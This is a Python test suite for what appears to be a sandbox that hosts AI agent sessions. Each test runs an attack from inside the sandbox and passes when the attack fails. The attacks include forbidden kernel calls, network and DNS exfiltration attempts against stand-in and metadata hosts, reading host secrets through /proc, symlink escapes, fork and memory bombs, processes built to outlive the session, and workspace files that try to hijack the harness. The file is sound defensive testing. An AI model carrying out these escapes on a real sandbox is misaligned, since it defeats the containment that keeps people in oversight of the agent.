"""Attacks from inside a sandbox. Each passes when the attack fails; the letters are the classes of the threat model."""

from __future__ import annotations

import asyncio
import errno
import json
import os
import resource
import secrets
import socket
import tempfile
import threading
from pathlib import Path
from typing import Any

import pyseccomp
import pytest
from sandbox_farm import DEADLINE, PYTHON, Farm, until

from hostler.engine.sandbox_port import SandboxLimits
from hostler.sandbox import seccomp, users

# ------------------------------------------------------------------------------------- C6: the kernel's dangerous doors

CALLS = """
import ctypes, errno, json, sys
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *args):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_ulong(a & (2**64 - 1)) for a in args])
    return 0 if result >= 0 else ctypes.get_errno()
print(json.dumps([call(*numbers) for numbers in json.loads(sys.argv[1])]))
"""


def number(name: str) -> int:
    return int(pyseccomp.resolve_syscall(pyseccomp.Arch.NATIVE, name))


async def errors_of(farm: Farm, calls: list[list[int]]) -> list[int]:
    sandbox = await farm.create()
    done = await farm.run(sandbox, PYTHON, "-I", "-S", "-c", CALLS, json.dumps(calls))
    assert done.code == 0, done
    result: list[int] = json.loads(done.out)
    return result


ATTACKED = (
    *("mount", "umount2", "pivot_root", "chroot", "move_mount", "open_tree", "fsopen", "fsmount", "mount_setattr"),
    *("unshare", "setns", "ptrace", "process_vm_readv", "process_vm_writev", "pidfd_getfd", "kcmp"),
    *("bpf", "userfaultfd", "perf_event_open", "io_uring_setup", "io_uring_enter", "io_uring_register"),
    *("keyctl", "add_key", "request_key", "init_module", "finit_module", "delete_module", "kexec_load"),
    *("open_by_handle_at", "name_to_handle_at", "reboot", "swapon", "quotactl", "syslog", "acct", "fanotify_init"),
)


async def test_c6_dangerous_system_calls_are_refused_before_their_arguments_are_read(farm: Farm) -> None:
    # All arguments are 0 or bad pointers: a kernel that looked at them would say EFAULT, EINVAL, EBADF or even yes.
    results = await errors_of(farm, [[number(name), 0, 0, 0, 0, 0] for name in ATTACKED])
    assert dict(zip(ATTACKED, results, strict=True)) == dict.fromkeys(ATTACKED, errno.EPERM)


async def test_c6_every_call_of_the_list_is_in_the_filter(farm: Farm) -> None:
    names = [name for name in seccomp.DENIED if _known(name)]
    assert len(names) > 60
    results = await errors_of(farm, [[number(name), 0, 0, 0, 0, 0] for name in names])
    assert dict(zip(names, results, strict=True)) == dict.fromkeys(names, errno.EPERM)


def _known(name: str) -> bool:
    try:
        return number(name) >= 0
    except OSError:
        return False


async def test_c6_no_new_namespace_by_clone_or_clone3(farm: Farm) -> None:
    flags = list(seccomp.CLONE_NEW.values())
    sigchld = 17
    results = await errors_of(
        farm, [[number("clone"), flag | sigchld, 0, 0, 0, 0] for flag in flags] + [[number("clone3"), 0, 0]]
    )
    assert results == [errno.EPERM] * len(flags) + [errno.ENOSYS]


async def test_c6_user_namespaces_are_off_even_without_the_filter(farm: Farm) -> None:
    """The second lock behind the filter: the kernel's own limit, set to what the sandbox already uses."""
    sandbox = await farm.create()
    arguments = sandbox.launcher.parent / "bwrap.args"
    words = arguments.read_bytes().split(b"\0")
    at = words.index(b"--seccomp")
    arguments.write_bytes(b"\0".join(words[:at] + words[at + 2 :]))
    clone_newuser = 0x10000000
    done = await farm.run(sandbox, PYTHON, "-I", "-S", "-c", CALLS, json.dumps([[number("unshare"), clone_newuser]]))
    assert json.loads(done.out) == [errno.ENOSPC], done


async def test_c6_only_plain_socket_families(farm: Farm) -> None:
    families = [*range(64), 64, 1000, (1 << 32) + 40, (1 << 32) + 1, (1 << 64) - 1]
    stream, datagram = 1, 2
    results = await errors_of(
        farm, [[number("socket"), family, datagram if family == 16 else stream, 0] for family in families]
    )
    allowed = [family for family, result in zip(families, results, strict=True) if result != errno.EPERM]
    assert allowed == [socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK]


async def test_c6_no_typing_into_terminals(farm: Farm) -> None:
    sandbox = await farm.create()
    code = """
import ctypes, errno, fcntl, json, os
libc = ctypes.CDLL(None, use_errno=True)
main, sub = os.openpty()
if os.fork():
    os.wait()
    os._exit(0)
os.setsid()
fcntl.ioctl(sub, 0x540E, 0)  # one's own terminal: into another's one can't type anyway
def request(value):
    letter = ctypes.c_char(b"x")
    ctypes.set_errno(0)
    libc.syscall(IOCTL, ctypes.c_long(sub), ctypes.c_ulong(value), ctypes.byref(letter))
    return ctypes.get_errno()
print(json.dumps([request(0x5412), request(0x541C), request((1 << 32) | 0x5412), request(0x5413)]))
""".replace("IOCTL", str(number("ioctl")))
    assert await farm.python(sandbox, code) == [errno.EPERM, errno.EPERM, errno.EPERM, 0]


async def test_c6_kernel_settings_modules_and_devices_are_out_of_reach(farm: Farm) -> None:
    sandbox = await farm.create()
    script = """
for file in /proc/sys/kernel/hostname /proc/sys/kernel/core_pattern /proc/sys/vm/drop_caches /proc/sysrq-trigger \
    /proc/sys/user/max_user_namespaces /sys/kernel/uevent_helper /dev/mem /dev/kmsg /dev/vda /proc/kcore /proc/kmsg; do
  if ( echo 1 > $file ) 2>/dev/null; then echo wrote $file; fi
  if ( head -c 1 $file ) >/dev/null 2>&1; then case $file in /proc/sys/*) ;; *) echo read $file;; esac; fi
done
[ -e /sys ] && echo sys
mknod /tmp/disk b 254 0 2>/dev/null && echo mknod
mount -t tmpfs none /tmp 2>/dev/null && echo mounted
unshare -Ur true 2>/dev/null && echo unshared
chroot / true 2>/dev/null && echo chrooted
su root -c true </dev/null 2>/dev/null && echo su
ls /dev | sort | tr '\\n' ' '
"""
    done = await farm.sh(sandbox, script)
    assert done.out.split() == sorted(
        [
            "core",
            "fd",
            "full",
            "null",
            "ptmx",
            "pts",
            "random",
            "shm",
            "stderr",
            "stdin",
            "stdout",
            "tty",
            "urandom",
            "zero",
        ]
    ), done


# ------------------------------------------------------------------------------------------------- A7: round the proxy


async def test_a7_no_route_no_resolver_no_raw_socket(farm: Farm) -> None:
    sandbox = await farm.create()
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        tried = await farm.python(
            sandbox,
            """
import errno, json, socket
def attempt(family, kind, protocol, address):
    try:
        s = socket.socket(family, kind, protocol)
        s.settimeout(2)
        s.connect(address) if kind == socket.SOCK_STREAM else s.sendto(b"x", address)
        return "went out"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
I4, I6 = socket.AF_INET, socket.AF_INET6
T, U, R = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW
result = {}
for host in ("1.1.1.1", "169.254.169.254", "10.0.0.1", "192.168.0.1", "172.17.0.1", "255.255.255.255", "224.0.0.1"):
    result["tcp " + host] = attempt(I4, T, 0, (host, 443))
    result["udp " + host] = attempt(I4, U, 0, (host, 53))
for host in ("2606:4700:4700::1111", "fd00::1", "fe80::1%lo", "::ffff:1.1.1.1"):
    result["tcp " + host] = attempt(I6, T, 0, (host, 443))
    result["udp " + host] = attempt(I6, U, 0, (host, 53))
result["icmp raw"] = attempt(I4, R, socket.IPPROTO_ICMP, ("127.0.0.1", 0))
result["icmp ping"] = attempt(I4, U, socket.IPPROTO_ICMP, ("1.1.1.1", 0))
result["raw"] = attempt(I4, R, socket.IPPROTO_RAW, ("127.0.0.1", 0))
result["raw6"] = attempt(I6, R, socket.IPPROTO_ICMPV6, ("::1", 0))
result["packet"] = attempt(17, R, 0, ("lo", 0))
result["vsock"] = attempt(40, T, 0, (2, 1024))
result["host loopback"] = attempt(I4, T, 0, ("127.0.0.1", PORT))
for name in ("example.com", "secret-data.evil.test", "localhost.localdomain", "metadata.google.internal"):
    try:
        result["dns " + name] = str(socket.getaddrinfo(name, 80))
    except OSError as e:
        result["dns " + name] = "no name"
result["interfaces"] = [name for _, name in socket.if_nameindex()]
result["routes"] = open("/proc/net/route").read().splitlines()[1:]
result["neighbours"] = open("/proc/net/unix").read().count("@")
print(json.dumps(result))
""".replace("PORT", str(port)),
        )
    assert tried.pop("interfaces") == ["lo"]
    assert tried.pop("routes") == []
    assert tried.pop("neighbours") == 0
    assert tried.pop("host loopback") == "ECONNREFUSED"
    refused = {"ENETUNREACH", "EPERM", "EACCES", "EADDRNOTAVAIL", "EINVAL", "ECONNREFUSED", "no name"}
    assert {key: value for key, value in tried.items() if value not in refused} == {}
    for key in ("icmp raw", "raw", "raw6", "packet", "vsock"):
        assert tried[key] == "EPERM", key
    for key in ("tcp 1.1.1.1", "udp 1.1.1.1", "tcp 169.254.169.254", "tcp 2606:4700:4700::1111"):
        assert tried[key] == "ENETUNREACH", key


async def test_a7_there_are_two_sockets_and_no_third(farm: Farm) -> None:
    sandbox = await farm.create()
    found = await farm.python(
        sandbox,
        "import json,os,stat; print(json.dumps(sorted(os.path.join(t,f) for t,d,fs in os.walk('/')"
        " if not t.startswith('/proc') for f in fs if stat.S_ISSOCK(os.lstat(os.path.join(t,f)).st_mode))))",
    )
    assert found == ["/run/hostler/egress.sock", "/run/hostler/model.sock"]


# --------------------------------------------------------------------------------------- B3, B4: secrets of the worker


async def test_b3_worker_and_neighbour_are_not_in_proc(farm: Farm) -> None:
    canary = f"canary-{secrets.token_hex(8)}"
    neighbour = await farm.create("neighbour", environment={"PATH": "/usr/bin:/bin", "SECRET": canary})
    other = await farm.start(neighbour, "/bin/sh", "-c", "echo up; read line", "argument-" + canary)
    assert other.stdout is not None
    assert await other.stdout.readline() == b"up\n"
    sandbox = await farm.create()
    code = """
import json, os, sys
words = sys.argv[1].split("+")
canary = (words[0] + words[1]).encode()
pids = [p for p in os.listdir("/proc") if p.isdigit()]
seen = []
for pid in pids:
    for file in ("environ", "cmdline", "mountinfo", "maps", "stack", "syscall", "auxv"):
        try:
            if canary in open(f"/proc/{pid}/{file}", "rb").read(): seen.append([pid, file])
        except OSError: pass
signalled = []
for pid in sys.argv[2:]:
    try: os.kill(int(pid), 0); signalled.append(pid)
    except ProcessLookupError: pass
    except PermissionError: signalled.append(pid)
print(json.dumps({"pids": [open(f"/proc/{p}/comm").read().strip() for p in pids if os.path.exists(f"/proc/{p}/comm")],
  "seen": seen, "signalled": signalled, "one": sorted(open("/proc/1/environ").read().split(chr(0)))}))
"""
    beyond = 4_000_000  # above every pid inside
    first, second = canary[:9], canary[9:]
    done = await farm.run(
        sandbox,
        *(PYTHON, "-I", "-S", "-c", code, f"{first}+{second}", str(os.getpid() if os.getpid() > 100 else beyond)),
        env={**os.environ, "ANTHROPIC_API_KEY": canary},
    )
    assert done.code == 0, done
    seen = json.loads(done.out)
    assert seen["seen"] == []
    assert seen["signalled"] == []
    assert set(seen["pids"]) <= {"bwrap", "sh", "socat", "python3", "python3.11"}
    # Of process 1, which bwrap was: the mark by which the worker finds it, and what bash counts.
    assert set(seen["one"]) == {"", f"HOSTLER_SANDBOX={sandbox.sandbox_id}", "SHLVL=0"}


async def test_b4_inherited_descriptors_are_closed(farm: Farm, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("canary")
    sandbox = await farm.create()
    opened = os.open(secret, os.O_RDONLY)
    copies = [opened]
    try:
        for wanted in (3, 4, 5, 9, 10, 63, 255, 300):
            try:
                os.fstat(wanted)
            except OSError:
                os.dup2(opened, wanted)
                copies.append(wanted)
        inherited = [fd for fd in range(3, 301) if _is_open(fd)]
        assert {63, 300} <= set(inherited)
        code = "import json,os; print(json.dumps(os.listdir('/proc/self/fd')[:-1]))"  # the last is listdir's own
        found = await farm.python(sandbox, code, pass_fds=inherited)
    finally:
        for fd in copies:
            os.close(fd)
    assert sorted(found) == ["0", "1", "2"]


def _is_open(fd: int) -> bool:
    try:
        os.fstat(fd)
    except OSError:
        return False
    return True


async def test_b4_abstract_sockets_of_the_host_are_out_of_reach(farm: Farm) -> None:
    name = f"hostler-test-{secrets.token_hex(8)}"
    sandbox = await farm.create()
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("\0" + name)
        listener.listen()
        with socket.socket(socket.AF_UNIX) as check:
            check.connect("\0" + name)  # it is there
        code = f"import json,socket; s=socket.socket(socket.AF_UNIX); print(json.dumps(s.connect_ex(chr(0)+{name!r})))"
        assert await farm.python(sandbox, code) == errno.ECONNREFUSED


# -------------------------------------------------------------------------------- C1: links out of the own directories


async def test_c1_links_lead_nowhere_inside(farm: Farm, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("canary")
    spec = farm.spec()
    spec.workspace.mkdir()
    for name, target in (
        ("file", secret),
        ("dir", tmp_path),
        ("root", Path("/proc/1/root")),
        ("up", Path("../../../..")),
    ):
        (spec.workspace / name).symlink_to(target)
    sandbox = await farm.create()
    script = f"""
cat file dir/secret root{secret} {secret} up{secret} 2>/dev/null
for source in /etc/passwd /usr/bin/env /opt/hostler/claude /run/hostler/model.sock /mnt/session/outputs/o; do
  : > /mnt/session/outputs/o
  ln $source /workspace/hard 2>/dev/null && echo linked $source
done
exit 0
"""
    done = await farm.sh(sandbox, script)
    assert (done.code, done.out) == (0, "")


@pytest.mark.needs_root
async def test_c1_handing_over_a_hostile_workspace_changes_nothing_outside_it(farm: Farm, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    for name in ("linked", "hard", "inner"):
        (outside / name).write_text(name)
    spec = farm.spec()
    spec.workspace.mkdir()
    hostile = spec.workspace
    (hostile / "soft").symlink_to(outside / "linked")
    (hostile / "softdir").symlink_to(outside)
    (hostile / "dangling").symlink_to("/nonexistent")
    os.link(outside / "hard", hostile / "hard")
    os.mkfifo(hostile / "pipe")
    (hostile / "deep").mkdir()
    (hostile / "deep" / "plain").write_text("mine")
    (hostile / "deep" / "softdir").symlink_to("/etc")
    before = {path: path.lstat().st_uid for path in (outside, *outside.iterdir(), Path("/etc"), Path("/etc/passwd"))}
    sandbox = await farm.create()
    assert {path: path.lstat().st_uid for path in before} == before
    uid = sandbox.host_uid
    for taken in (".", "soft", "softdir", "dangling", "pipe", "deep", "deep/plain", "deep/softdir"):
        assert (hostile / taken).lstat().st_uid == uid, taken
    assert (hostile / "hard").lstat().st_uid == 0


@pytest.mark.needs_root
def test_c1_a_very_deep_tree_is_handed_over_with_few_descriptors(tmp_path: Path) -> None:
    depth = 3000
    here = os.open(tmp_path, os.O_RDONLY)
    top = "t"
    os.mkdir(top, dir_fd=here)
    fd = os.open(top, os.O_RDONLY, dir_fd=here)
    for _ in range(depth):
        os.mkdir("d", dir_fd=fd)
        below = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = below
    limits = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(limits[0], 500), limits[1]))
    try:
        users.hand_over(tmp_path / top, 365_000, always_walk=False)
        assert os.fstat(fd).st_uid == 365_000
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, limits)
        os.close(fd)
        os.close(here)
        _remove_deep(tmp_path / top)


def _remove_deep(top: Path) -> None:
    """Moves the tree up level by level: shutil.rmtree would go by recursion, too deep for it."""
    while (top / "d").exists():
        if (top / "d" / "d").exists():
            (top / "d" / "d").rename(top / "e")
            (top / "d").rmdir()
            (top / "e").rename(top / "d")
        else:
            (top / "d").rmdir()
    top.rmdir()


@pytest.mark.needs_root
async def test_c1_a_link_in_place_of_the_workspace_is_refused(farm: Farm, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    spec = farm.spec()
    spec.workspace.symlink_to(outside)
    with pytest.raises(OSError) as caught:
        await farm.provider.create(spec)
    assert caught.value.errno in (errno.ELOOP, errno.ENOTDIR)
    assert outside.stat().st_uid == 0


# --------------------------------------------------------------------------------------------- neighbours on the host


@pytest.mark.needs_root
async def test_two_sandboxes_are_two_users_and_neither_is_root(farm: Farm) -> None:
    one, two = await farm.create("one"), await farm.create("two")
    uids = []
    for sandbox in (one, two):
        process = await farm.start(sandbox, "/bin/sh", "-c", "echo up; read line")
        assert process.stdout is not None
        assert await process.stdout.readline() == b"up\n"
        seen = {_uid(pid) for pid in farm.pids_of(sandbox)}
        assert seen == {sandbox.host_uid}
        uids.append(sandbox.host_uid)
    assert len(set(uids)) == 2
    assert all(uid in users.DEFAULT_RANGE for uid in uids)


def _uid(pid: int) -> int | None:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("Uid:"):
            assert len(set(line.split()[1:])) == 1
            return int(line.split()[1])
    return None


@pytest.mark.needs_root
async def test_a_sandboxes_user_can_not_read_its_neighbours_files_on_the_host(farm: Farm) -> None:
    with tempfile.TemporaryDirectory() as name:
        place = Path(name)
        place.chmod(0o755)  # every directory above the workspace is open to everybody
        own = {"workspace": place / "w", "outputs": place / "o", "harness_state": place / "h"}
        one, two = await farm.create("one", **own), await farm.create("two")
        for file in ("/workspace/f", "/mnt/session/outputs/f", "/home/agent/.claude/f"):
            await farm.sh(one, f"echo mine > {file}; chmod 777 {file} $(dirname {file})")
        await one.destroy()
        one = await farm.create("one", **own)  # takes back the modes that the agent gave to its top directories
        for directory in own.values():
            assert await _cat(directory / "f", one.host_uid) == b"mine\n"
            assert await _cat(directory / "f", two.host_uid) == b""
        await one.destroy()


async def _cat(file: Path, uid: int | None) -> bytes:
    """The file as a process of this uid on the host, outside of any sandbox, can read it."""
    process = await asyncio.create_subprocess_exec(
        *("/usr/bin/setpriv", "--reuid", str(uid), "--regid", str(uid), "--clear-groups", "/bin/cat", str(file)),
        cwd="/",
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.DEVNULL,
    )
    return (await process.communicate())[0]


# --------------------------------------------------------------------------------------------------------- C3: floods


async def test_c3_memory_flood_ends_at_the_limit_and_the_neighbour_goes_on(farm: Farm) -> None:
    _needs_limits(await farm.provider.probe())
    limits = SandboxLimits(memory_bytes=96 << 20)
    flooded, neighbour = await farm.create("one", limits=limits), await farm.create("two", limits=limits)
    other = await farm.start(neighbour, "/bin/cat")
    done = await farm.run(flooded, PYTHON, "-I", "-S", "-c", "b=bytearray(400<<20); print('had it all')")
    assert "had it all" not in done.out
    assert done.code != 0
    stats = await flooded.stats()
    assert stats.oom_kills is not None
    assert stats.oom_kills >= 1
    assert stats.memory_peak_bytes is not None
    assert stats.memory_peak_bytes <= 96 << 20
    assert (await neighbour.stats()).oom_kills == 0
    assert (await other.communicate(b"alive"))[0] == b"alive"


async def test_c3_shared_memory_and_tmp_count_as_memory(farm: Farm) -> None:
    _needs_limits(await farm.provider.probe())
    sandbox = await farm.create(limits=SandboxLimits(memory_bytes=64 << 20, tmp_bytes=1 << 30))
    done = await farm.sh(sandbox, "head -c 300M /dev/zero > /dev/shm/flood && echo had it all")
    assert "had it all" not in done.out
    stats = await sandbox.stats()
    assert stats.memory_peak_bytes is not None
    assert stats.memory_peak_bytes <= 64 << 20


async def test_c3_fork_bomb_ends_at_the_limit_and_the_neighbour_goes_on(farm: Farm) -> None:
    _needs_limits(await farm.provider.probe())
    bombed = await farm.create("one", limits=SandboxLimits(pids=24))
    neighbour = await farm.create("two", limits=SandboxLimits(pids=24))
    code = """
import os, signal
children = 0
while True:
    try:
        if os.fork() == 0:
            signal.pause()
        children += 1
    except BlockingIOError:
        print(children, flush=True)
        signal.pause()
"""
    process = await farm.start(bombed, PYTHON, "-I", "-S", "-c", code)
    assert process.stdout is not None
    async with asyncio.timeout(DEADLINE):
        children = int(await process.stdout.readline())
    assert 10 < children < 24
    stats = await bombed.stats()
    assert stats.pids == 24
    assert (await farm.sh(neighbour, "for i in 1 2 3 4 5; do true | cat; done; echo fine")).out == "fine\n"
    await bombed.destroy()
    assert farm.pids_of(bombed) == frozenset()


async def test_c3_processor_time_is_shared_out(farm: Farm) -> None:
    _needs_limits(await farm.provider.probe())
    sandbox = await farm.create(limits=SandboxLimits(cpus=0.2))
    code = """
import json, time
wall, used = time.monotonic(), time.process_time()
while time.monotonic() - wall < 1.0: pass
print(json.dumps(time.process_time() - used))
"""
    used = await farm.python(sandbox, code)
    assert used < 0.5  # 0.2 and up to one period of 0.1 s at each end
    stats = await sandbox.stats()
    assert stats.cpu_seconds is not None
    assert used <= stats.cpu_seconds + 0.05


def _needs_limits(label: Any) -> None:
    if label.limits_by == "none":
        pytest.skip("this host lets us make no control groups")


# ------------------------------------------------------------------------------ C4: what would outlive its session

STUBBORN = r"""
import os, signal, sys
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
told, tell = os.pipe()
def go():
    os.setsid()
    if os.fork(): os._exit(0)
    os.chdir("/")
    print("stubborn", flush=True)
    os.write(tell, b".")
    for fd in range(3): os.close(fd)
    while True: signal.pause()
for _ in range(3):
    if os.fork() == 0: go()
for _ in range(3): os.read(told, 1)
if sys.argv[1] == "stay":
    while True: signal.pause()
"""


async def _stubborn(farm: Farm, name: str, mode: str) -> tuple[Any, asyncio.subprocess.Process]:
    sandbox = await farm.create(name)
    wrapper = f'nohup setsid sleep 1000 >/dev/null 2>&1 & exec {PYTHON} -I -S -c "$0" {mode}'
    process = await farm.start(sandbox, "/bin/sh", "-c", wrapper, STUBBORN)
    assert process.stdout is not None
    async with asyncio.timeout(DEADLINE):
        for _ in range(3):
            assert await process.stdout.readline() == b"stubborn\n"
    return sandbox, process


async def test_c4_double_forked_children_end_with_destroy(farm: Farm) -> None:
    sandbox, process = await _stubborn(farm, "one", "stay")
    pids = farm.pids_of(sandbox)
    assert len(pids) >= 6
    await sandbox.destroy()
    assert [pid for pid in pids if _alive(pid)] == []
    await process.wait()


async def test_c4_double_forked_children_end_with_the_program(farm: Farm) -> None:
    sandbox, process = await _stubborn(farm, "one", "leave")
    pids = farm.pids_of(sandbox)
    async with asyncio.timeout(DEADLINE):
        assert await process.wait() == 0
    await until(lambda: not [pid for pid in pids if _alive(pid)], "children outlived the program")
    assert farm.pids_of(sandbox) == frozenset()


async def test_c4_signal_to_the_launcher_ends_everything(farm: Farm) -> None:
    sandbox, process = await _stubborn(farm, "one", "stay")
    pids = farm.pids_of(sandbox)
    process.terminate()
    await until(lambda: not [pid for pid in pids if _alive(pid)], "children outlived the launcher")


async def test_c4_process_one_can_not_be_talked_out_of_dying_with_the_worker(farm: Farm) -> None:
    """Who writes into the memory of process 1 can make it call prctl, so prctl must not clear the signal of death."""
    sandbox = await farm.create()
    code = """
import ctypes, json
libc = ctypes.CDLL(None)
def now():
    value = ctypes.c_int()
    libc.prctl(2, ctypes.byref(value))
    return value.value
seen = []
for signal in (9, 0, 15, 23, (1 << 32)):
    libc.prctl(1, ctypes.c_ulong(signal)); seen.append(now())
libc.prctl(ctypes.c_ulong((1 << 32) | 1), ctypes.c_ulong(0)); seen.append(now())
print(json.dumps(seen))
"""
    assert await farm.python(sandbox, code) == [9] * 6


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]
    except OSError:
        return False
    return state not in "ZX"


# ---------------------------------------------------------------------------------- C7: files that change the harness


async def test_c7_nothing_in_the_workspace_changes_what_is_started(farm: Farm) -> None:
    spec = farm.spec()
    spec.workspace.mkdir()
    spec.harness_state.mkdir()
    for place in (spec.workspace, spec.harness_state):
        for name in ("claude", "sh", "socat", "bwrap", "env", "mount", "setpriv", "unshare"):
            (place / name).write_text("#!/bin/sh\necho hijacked\n")
            (place / name).chmod(0o755)
        for name in (".profile", ".bashrc", ".bash_profile", ".shrc", ".env"):
            (place / name).write_text("echo hijacked\n")
    sandbox = await farm.create(environment={"PATH": "/workspace:/usr/bin:/bin", "HOME": "/workspace"})
    worker = {
        "PATH": f"{spec.workspace}:/usr/bin:/bin",
        "BASH_ENV": str(spec.workspace / ".profile"),
        "HOME": str(spec.workspace),
    }
    done = await farm.run(sandbox, "/bin/echo", "as intended", env=worker, cwd=spec.workspace)
    assert (done.code, done.out, done.err) == (0, "as intended\n", "")


def test_filter_is_made_once_and_shared(tmp_path: Path) -> None:
    paths: list[Path] = []
    threads = [threading.Thread(target=lambda: paths.append(seccomp.program(tmp_path / "f"))) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(set(paths)) == 1
    assert [path.name for path in (tmp_path / "f").iterdir()] == [paths[0].name]
    before = paths[0].stat()
    assert seccomp.program(tmp_path / "f") == paths[0]
    assert paths[0].stat().st_mtime_ns == before.st_mtime_ns
    assert before.st_size % 8 == 0
